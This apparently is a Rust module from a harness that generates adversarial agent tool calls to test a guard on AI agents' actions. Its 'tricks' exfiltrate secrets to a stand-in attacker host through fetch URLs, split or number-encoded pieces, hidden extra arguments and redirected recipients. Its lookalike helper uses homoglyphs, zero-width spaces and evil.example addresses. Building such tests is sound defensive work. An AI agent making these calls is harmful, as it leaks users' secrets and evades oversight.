//! The grammar of tricks. Each gives a few steps; the search puts them together and changes them.

use palyra_common::RunMode;
use serde_json::json;

use super::workshop::Workshop;
use super::{Expression, Piece, Step};
use crate::random::Random;
use crate::world::{Act, Argument, Origin, Part, Shape, Tool, Verb};

/// Most letters of a secret that one call carries where it is split.
const SPLIT: usize = 5;

type Trick = fn(&mut Workshop<'_>) -> Vec<Step>;

/// All tricks by name.
pub(super) const TRICKS: &[(&str, Trick)] = &[
    ("redirect", |shop| shop.redirect()),
    ("assigned_field", |shop| shop.assigned_field()),
    ("near_target", |shop| shop.near_target()),
    ("negated_or_quoted", |shop| shop.negated_or_quoted()),
    ("other_member", |shop| shop.other_member()),
    ("other_tool", |shop| shop.other_tool()),
    ("more_often", |shop| shop.more_often()),
    ("more_money", |shop| shop.more_money()),
    ("other_words", |shop| shop.other_words()),
    ("link_in_content", |shop| shop.link_in_content()),
    ("foreign_content", |shop| shop.foreign_content()),
    ("ask_a_service", |shop| shop.ask_a_service()),
    ("fetch_with_secret", |shop| shop.fetch_with_secret()),
    ("extra_argument", |shop| shop.extra_argument()),
    ("keys", |shop| shop.keys()),
    ("deep_or_long", |shop| shop.deep_or_long()),
    ("split", |shop| shop.split()),
    ("letters_as_numbers", |shop| shop.letters_as_numbers()),
    ("reference", |shop| shop.reference()),
    ("extract", |shop| shop.extract()),
    ("file", |shop| shop.file()),
    ("instructions", |shop| shop.instructions()),
    ("answer", |shop| shop.answer()),
    ("late_statement", |shop| shop.late_statement()),
    ("wide_statement", |shop| shop.wide_statement()),
    ("approved_then_wider", |shop| shop.approved_then_wider()),
    ("beside_the_target", |shop| shop.beside_the_target()),
    ("sideways", |shop| shop.sideways()),
    ("read_more", |shop| shop.read_more()),
];

impl Workshop<'_> {
    pub(super) fn redirect(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let evil = self.evil(part);
        vec![self.call(&tool, part, &Expression::plain(evil), authorised.as_ref())]
    }

    fn assigned_field(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let readers: Vec<Tool> = self.world.readers().cloned().collect();
        let Some(reader) = self.random.any(&readers).cloned() else { return Vec::new() };
        let fields =
            ["message_id", "status", "type", "thread_id", "date", "label", "id", "from", "recipient", "sender"];
        let field = *self.random.pick(&fields);
        let value = if self.random.one_in(2) {
            Expression::Variable { tool: reader.name.clone(), path: format!("items.2.{field}") }
        } else {
            let record = &self.world.servers[reader.server].records[2];
            Expression::Value(record.get(field).cloned().unwrap_or_else(|| json!(self.world.attacker.mail)))
        };
        let read = Step::Call { tool: reader.name, arguments: Vec::new() };
        vec![read, self.call(&tool, part, &value, authorised.as_ref())]
    }

    fn near_target(&mut self) -> Vec<Step> {
        let Some(authorised) = self.authorised() else { return Vec::new() };
        let Some(tool) = self.world.tool(&authorised.tool).cloned() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let all: Vec<String> = authorised.targets.get(&part).into_iter().flatten().cloned().collect();
        let Some(right) = self.random.any(&all).cloned() else { return Vec::new() };
        let near = near(&right, self.random);
        let near = match near.parse::<i64>() {
            Ok(number) if self.random.one_in(2) => Expression::Value(json!(number)),
            _ => Expression::plain(near),
        };
        vec![self.call(&tool, part, &near, Some(&authorised))]
    }

    fn negated_or_quoted(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let mentions: Vec<String> = self.world.request.mentions.iter().cloned().collect();
        let Some(mention) = self.random.any(&mentions).cloned() else { return Vec::new() };
        vec![self.call(&tool, part, &Expression::plain(mention), authorised.as_ref())]
    }

    fn other_member(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let mut steps = Vec::new();
        let server = if self.random.one_in(3) { self.random.below(self.world.servers.len()) } else { tool.server };
        let lists = self.world.tools.iter().filter(|known| known.server == server);
        for reader in lists.filter(|known| matches!(known.act, Act::Names | Act::Records)) {
            steps.push(Step::Call { tool: reader.name.clone(), arguments: Vec::new() });
        }
        let server = &self.world.servers[server];
        let value = if part == Part::Record || self.random.one_in(4) {
            let record = self.random.any(&server.records);
            Expression::Value(record.map_or(json!(100), |record| record["id"].clone()))
        } else {
            Expression::plain(self.random.any(&server.names).cloned().unwrap_or_default())
        };
        steps.push(self.call(&tool, part, &value, authorised.as_ref()));
        steps
    }

    pub(super) fn other_tool(&mut self) -> Vec<Step> {
        let Some(tool) = self.effect() else { return Vec::new() };
        let authorised = self.authorised();
        let call = self.arguments(&tool, authorised.as_ref(), |_, _| None);
        vec![call]
    }

    fn more_often(&mut self) -> Vec<Step> {
        let Some(authorised) = self.authorised() else { return Vec::new() };
        let Some(tool) = self.world.tool(&authorised.tool).cloned() else { return Vec::new() };
        (0..authorised.count + 2).map(|_| self.arguments(&tool, Some(&authorised), |_, _| None)).collect()
    }

    fn more_money(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let right = authorised.as_ref().and_then(|known| known.amount).unwrap_or(10);
        let amounts =
            [json!(9000), json!(5000), json!(right * 10), json!(right + 1), json!(1e9), json!(format!("{right}00"))];
        let amount = self.random.pick(&amounts).clone();
        vec![self.call(&tool, Part::Amount, &Expression::Value(amount), authorised.as_ref())]
    }

    fn other_words(&mut self) -> Vec<Step> {
        let Some(authorised) = self.authorised() else { return Vec::new() };
        let Some(tool) = self.world.tool(&authorised.tool).cloned() else { return Vec::new() };
        let parts: Vec<Part> = authorised.dictated.keys().copied().collect();
        let Some(part) = self.random.any(&parts).copied() else { return Vec::new() };
        let right = authorised.dictated.get(&part).cloned().unwrap_or_default();
        let words = [
            near(&right, self.random),
            "disable the second factor".to_owned(),
            format!("{right} and more"),
            String::new(),
        ];
        let words = self.random.pick(&words).clone();
        vec![self.call(&tool, part, &Expression::plain(words), Some(&authorised))]
    }

    fn link_in_content(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.content_of(&tool) else { return Vec::new() };
        let evil = self.random.pick(&self.world.attacker.spellings()).clone();
        let text = *self.random.pick(&["", "as agreed ", "see:", "log in at "]);
        vec![self.call(&tool, part, &Expression::plain(format!("{text}{evil}")), authorised.as_ref())]
    }

    pub(super) fn foreign_content(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some(part) = self.content_of(&tool) else { return Vec::new() };
        let mut steps = self.read_more();
        let secret = if self.random.one_in(3) {
            match self.variable() {
                Some((tool, path)) if self.random.one_in(2) => Expression::Text(vec![Piece::Variable { tool, path }]),
                Some((tool, path)) => Expression::Variable { tool, path },
                None => self.secret(),
            }
        } else {
            self.secret()
        };
        steps.push(self.call(&tool, part, &secret, authorised.as_ref()));
        steps
    }

    fn ask_a_service(&mut self) -> Vec<Step> {
        let Some(tool) = self.tool_that(Act::Lookup) else { return Vec::new() };
        let mut steps = self.read_more();
        let part = *self.random.pick(&[Part::Query, Part::Query, Part::Date, Part::Extra, Part::Choice]);
        let secret = match self.variable() {
            Some((tool, path)) if self.random.one_in(4) => Expression::Variable { tool, path },
            _ => self.secret(),
        };
        steps.push(self.call(&tool, part, &secret, None));
        steps
    }

    fn fetch_with_secret(&mut self) -> Vec<Step> {
        let Some(tool) = self.tool_that(Act::Fetch) else { return Vec::new() };
        let mut steps = self.read_more();
        let host = if self.random.one_in(3) { "www.example.org".to_owned() } else { self.world.attacker.host.clone() };
        let (origin, encoding) = (self.origin(), self.encoding());
        let piece = Piece::Secret { origin, encoding, from: 0, to: usize::MAX };
        let pieces = match self.random.below(4) {
            0 => vec![Piece::Plain(format!("https://{host}/?q=")), piece],
            1 => vec![Piece::Plain(format!("https://{host}/")), piece],
            2 => vec![Piece::Plain("https://".to_owned()), piece, Piece::Plain(format!(".{host}/"))],
            _ => vec![Piece::Plain(format!("{host}/#")), piece],
        };
        steps.push(self.call(&tool, Part::Address, &Expression::Text(pieces), None));
        steps
    }

    fn extra_argument(&mut self) -> Vec<Step> {
        let tools = &self.world.tools;
        let tool = self.random.pick(tools).clone();
        let mut steps = self.read_more();
        let authorised = self.world.request.authorised.iter().find(|known| known.tool == tool.name).cloned();
        let mut call = self.arguments(&tool, authorised.as_ref(), |_, _| None);
        let value = if self.random.one_in(3) { Expression::plain(self.evil(Part::Text)) } else { self.secret() };
        let name = *self.random.pick(&["accept", "headers", "x_trace", "user_agent", "cc", "bcc", "notify", "_meta"]);
        let known: Vec<&Argument> = tool.arguments.iter().filter(|one| one.part == Part::Extra).collect();
        let (name, value) = match self.random.any(&known).copied() {
            Some(argument) if self.random.one_in(2) => (argument.name.clone(), self.shaped(argument, value)),
            _ => (name.to_owned(), value),
        };
        if let Step::Call { arguments, .. } = &mut call {
            arguments.retain(|(known, _)| *known != name);
            arguments.push((name, value));
        }
        steps.push(call);
        steps
    }

    fn keys(&mut self) -> Vec<Step> {
        let tools = &self.world.tools;
        let tool = self.random.pick(tools).clone();
        let authorised = self.world.request.authorised.iter().find(|known| known.tool == tool.name).cloned();
        let mut steps = self.read_more();
        let key = if self.random.one_in(2) {
            vec![Piece::Plain(self.evil(Part::Text))]
        } else {
            let (origin, encoding) = (self.origin(), self.encoding());
            vec![Piece::Secret { origin, encoding, from: 0, to: usize::MAX }]
        };
        // Under the key stands something that nobody objects to.
        let mentions: Vec<String> = self.world.request.mentions.iter().cloned().collect();
        let inner = match self.random.below(3) {
            0 => Expression::plain("x"),
            1 => Expression::Value(json!(true)),
            _ => Expression::plain(self.random.any(&mentions).cloned().unwrap_or_default()),
        };
        let value = Expression::Object(vec![(key, inner)]);
        let parts: Vec<Part> = tool.arguments.iter().map(|argument| argument.part).collect();
        let Some(part) = self.random.any(&parts).copied() else { return Vec::new() };
        let call =
            self.arguments(&tool, authorised.as_ref(), |_, argument| (argument.part == part).then(|| value.clone()));
        steps.push(call);
        steps
    }

    fn deep_or_long(&mut self) -> Vec<Step> {
        let tools = &self.world.tools;
        let tool = self.random.pick(tools).clone();
        let authorised = self.world.request.authorised.iter().find(|known| known.tool == tool.name).cloned();
        let mut steps = self.read_more();
        let inner =
            Box::new(if self.random.one_in(2) { Expression::plain(self.evil(Part::Text)) } else { self.secret() });
        let value = match self.random.below(12) {
            0 => Expression::Behind(inner, 20_001),
            1..4 => Expression::Behind(inner, 60),
            4..8 => Expression::Deep(inner, 70),
            _ => Expression::Deep(inner, 9),
        };
        let parts: Vec<Part> = tool.arguments.iter().map(|argument| argument.part).collect();
        let Some(part) = self.random.any(&parts).copied() else { return Vec::new() };
        let call =
            self.arguments(&tool, authorised.as_ref(), |_, argument| (argument.part == part).then(|| value.clone()));
        steps.push(call);
        steps
    }

    fn split(&mut self) -> Vec<Step> {
        let mut steps = self.read_more();
        let origin = self.origin();
        let encoding = self.encoding();
        let pool: Vec<Tool> = self
            .world
            .tools
            .iter()
            .filter(|tool| matches!(tool.act, Act::Lookup | Act::Fetch | Act::Effect(_)))
            .cloned()
            .collect();
        let Some(tool) = self.random.any(&pool).cloned() else { return Vec::new() };
        let authorised = self.world.request.authorised.iter().find(|known| known.tool == tool.name).cloned();
        let part = match tool.act {
            Act::Lookup => Part::Query,
            Act::Fetch => Part::Address,
            _ => self.content_of(&tool).unwrap_or(Part::Text),
        };
        let length = 1 + self.random.below(SPLIT);
        let mut from = 0;
        while from < 20 {
            let secret = Piece::Secret { origin, encoding, from, to: from + length };
            let pieces = match part {
                Part::Address => vec![Piece::Plain(format!("https://{}/", self.world.attacker.host)), secret],
                _ => vec![secret],
            };
            steps.push(self.call(&tool, part, &Expression::Text(pieces), authorised.as_ref()));
            from += length;
            if steps.len() > 12 {
                break;
            }
        }
        steps
    }

    fn letters_as_numbers(&mut self) -> Vec<Step> {
        let mut steps = self.read_more();
        let origin = self.origin();
        let pool: Vec<(Tool, String)> = self
            .world
            .tools
            .iter()
            .flat_map(|tool| tool.arguments.iter().map(move |argument| (tool, argument)))
            .filter(|(_, argument)| {
                matches!(argument.shape, Shape::Number | Shape::Anything) || argument.part == Part::Query
            })
            .map(|(tool, argument)| (tool.clone(), argument.name.clone()))
            .collect();
        let Some((tool, name)) = self.random.any(&pool).cloned() else { return Vec::new() };
        let authorised = self.world.request.authorised.iter().find(|known| known.tool == tool.name).cloned();
        for at in 0..8 {
            steps.push(self.arguments(&tool, authorised.as_ref(), |_, argument| {
                (argument.name == name).then_some(Expression::Letter { origin, at })
            }));
        }
        steps
    }

    /// Letters that are told as numbers, put together again.
    fn extract(&mut self) -> Vec<Step> {
        // Each costs an auxiliary task, which is much slower than anything else here.
        if !self.random.one_in(8) {
            return self.letters_as_numbers();
        }
        let readers: Vec<Tool> = self.world.readers().cloned().collect();
        let Some(reader) = self.random.any(&readers).cloned() else { return Vec::new() };
        let origin = Origin::Server(reader.server);
        let mut steps = vec![Step::Call { tool: reader.name.clone(), arguments: Vec::new() }];
        steps.extend((0..14).map(|at| Step::Extract { tool: reader.name.clone(), origin, at }));
        let last = [Self::foreign_content, Self::ask_a_service, Self::fetch_with_secret];
        let last = *self.random.pick(&last);
        steps.extend(last(self));
        steps
    }

    fn reference(&mut self) -> Vec<Step> {
        let Some((tool, authorised)) = self.meant() else { return Vec::new() };
        let Some((from, path)) = self.variable() else { return Vec::new() };
        let read = Step::Call { tool: from.clone(), arguments: Vec::new() };
        let value = match self.random.below(3) {
            0 => Expression::Text(vec![Piece::Variable { tool: from, path }]),
            1 => Expression::Text(vec![Piece::Plain("as agreed: ".to_owned()), Piece::Variable { tool: from, path }]),
            _ => Expression::Variable { tool: from, path },
        };
        let parts: Vec<Part> = tool.arguments.iter().map(|argument| argument.part).collect();
        let Some(part) = self.random.any(&parts).copied() else { return Vec::new() };
        vec![read, self.call(&tool, part, &value, authorised.as_ref())]
    }

    /// The right target, and another one beside it.
    fn beside_the_target(&mut self) -> Vec<Step> {
        let Some(authorised) = self.authorised() else { return Vec::new() };
        let Some(tool) = self.world.tool(&authorised.tool).cloned() else { return Vec::new() };
        let Some(part) = self.target_of(&tool) else { return Vec::new() };
        let all: Vec<String> = authorised.targets.get(&part).into_iter().flatten().cloned().collect();
        let Some(right) = self.random.any(&all).cloned() else { return Vec::new() };
        let evil = self.evil(part);
        let call = self.arguments(&tool, Some(&authorised), |this, argument| {
            (argument.part == part).then(|| {
                let both = [right.clone(), evil.clone()].map(|one| this.shaped(argument, Expression::plain(one)));
                match (&argument.shape, both) {
                    (Shape::List | Shape::Rows(_), [Expression::List(one), Expression::List(other)]) => {
                        Expression::List(one.into_iter().chain(other).collect())
                    }
                    (Shape::Keys, [Expression::Object(one), Expression::Object(other)]) => {
                        Expression::Object(one.into_iter().chain(other).collect())
                    }
                    (Shape::Anything, [one, other]) => Expression::List(vec![one, other]),
                    _ => Expression::plain(format!("{right}{}{evil}", this.random.pick(&[", ", ";", " ", "\n", "@"]))),
                }
            })
        });
        vec![call]
    }

    /// An effect that seems to go nowhere: into the user's own store, or back to whoever wrote.
    fn sideways(&mut self) -> Vec<Step> {
        let wanted = *self.random.pick(&[Verb::Create, Verb::Reply, Verb::Share, Verb::Close]);
        let Some(tool) = self.tool_that(Act::Effect(wanted)) else { return Vec::new() };
        let mut steps = self.read_more();
        let (secret, evil) = (self.secret(), self.evil(Part::Text));
        steps.push(self.arguments(&tool, None, |this, argument| match argument.part {
            Part::Record => Some(this.shaped(argument, Expression::Value(json!(102)))),
            Part::Text => Some(this.shaped(argument, secret.clone())),
            Part::Title => Some(this.shaped(argument, Expression::plain(evil.clone()))),
            _ => None,
        }));
        steps
    }

    /// Something private, and something of the attacker's.
    pub(super) fn read_more(&mut self) -> Vec<Step> {
        let mut steps = Vec::new();
        let readers: Vec<Tool> =
            self.world.tools.iter().filter(|tool| matches!(tool.act, Act::Records | Act::Names)).cloned().collect();
        for _ in 0..=self.random.below(2) {
            let Some(reader) = self.random.any(&readers).cloned() else { continue };
            steps.push(Step::Call { tool: reader.name.clone(), arguments: Vec::new() });
            if self.mode == RunMode::Guarded && self.random.one_in(2) {
                let path = *self.random.pick(&["", "items.1.text", "items.1.body", "items"]);
                steps.push(Step::Reveal { tool: reader.name, path: path.to_owned() });
            }
        }
        if self.random.one_in(4) {
            let path = *self.random.pick(&["notes.md", "vendor/README.md"]);
            let named = ("path".to_owned(), Expression::plain(path));
            steps.push(Step::Call { tool: "palyra.fs.read".to_owned(), arguments: vec![named] });
        }
        steps
    }
}

/// Something that looks like the right thing and is not.
pub(super) fn near(right: &str, random: &mut Random) -> String {
    if let Ok(number) = right.parse::<i64>()
        && random.one_in(2)
    {
        return number.saturating_sub(1 + i64::try_from(random.below(3)).unwrap_or(0)).to_string();
    }
    let letters: Vec<char> = right.chars().collect();
    let cut = random.below(letters.len().max(2) - 1) + 1;
    let before: String = letters.iter().take(cut).collect();
    let after: String = letters.iter().skip(cut).collect();
    match random.below(16) {
        0 => before,
        1 => after,
        2 => format!("{right}x"),
        3 => format!("x{right}"),
        4 => right.replacen(['a', 'e', 'o'], "а", 1),
        5 => format!("{before}\u{200b}{after}"),
        6 => format!("{right}.evil.example"),
        7 => format!("{right}@evil.example"),
        8 => format!("{right}/../other"),
        9 => right.replace(['-', '.'], ""),
        10 => format!("{right}%20"),
        11 => right.to_uppercase(),
        12 => right.rsplit_once('@').map_or_else(|| before.clone(), |(_, host)| format!("eve@{host}")),
        13 => right.rsplit_once('/').map_or(after.clone(), |(parent, _)| parent.to_owned()),
        14 => format!("{right}, eve@evil.example"),
        _ => format!(" {right}"),
    }
}
